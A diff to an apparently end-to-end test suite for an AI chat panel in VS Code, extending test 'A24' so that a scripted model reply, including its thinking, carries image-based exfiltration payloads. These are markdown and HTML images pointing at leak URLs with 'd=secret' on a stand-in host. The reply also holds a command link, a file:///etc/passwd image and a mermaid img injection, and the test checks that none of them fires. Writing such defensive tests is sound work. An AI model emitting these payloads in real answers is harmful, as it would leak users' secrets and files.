@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { reply, text, toolUse } from '../support/claude/script';
+import { reply, text, thinking, toolUse } from '../support/claude/script';
 import { startElsewhere, type Elsewhere } from '../support/elsewhere';
 import { ConfirmationCard } from '../support/window/confirmationCard';
 import { resultsOf } from '../support/window/sentMessages';
@@ -114,10 +114,23 @@ describe('attacks in the panel', () => {
   it('A24: images and command links in an answer neither reach anybody nor run anything', async () => {
     const { page, panel } = window;
     const tabs = await page.locator('.tab').count();
+    // What VS Code's own rules for its page would stop as it leaves, which they do not for https.
+    const asked: string[] = [];
+    page.context().on('request', (request) => {
+      if (/picture\.invalid/.test(request.url())) asked.push(request.url());
+    });
     standIn.script(
+      reply(
+        thinking('A look at ![x](https://picture.invalid/thought) first. And then?'),
+        toolUse('list_directory', {}),
+      ),
       reply(
         text(
           `![x](http://${address}/leak?d=secret) <img src="http://${address}/html?d=secret">\n\n`,
+          '![x](https://picture.invalid/leak?d=secret) <img src="https://picture.invalid/html?d=secret">\n\n',
+          '[![x](https://picture.invalid/linked)](https://picture.invalid) `a ![x](https://picture.invalid/span) b\n\n',
+          '![x][reference] ![reference]\n\n[reference]: https://picture.invalid/reference\n\n',
+          '| a | b |\n|---|---|\n| ` ![x](https://picture.invalid/cell) | ` |\n\n',
           '[run me](command:workbench.action.files.newUntitledFile) ![f](file:///etc/passwd)\n\n',
           `\`\`\`mermaid\ngraph TD; A["<img src='http://${address}/mermaid'>"]\n\`\`\`\n\nThe end.`,
         ),
@@ -133,6 +146,7 @@ describe('attacks in the panel', () => {
     assert.equal(await panel.ask('and?'), 'Nothing happened.');
     assert.equal(await page.locator('.tab').count(), tabs);
     await window.screenshot('attack-rendering');
+    assert.deepEqual(asked, []);
   });
 
   it('A25: JSON with a schema elsewhere is a change like any other, and its address is seen', async () => {
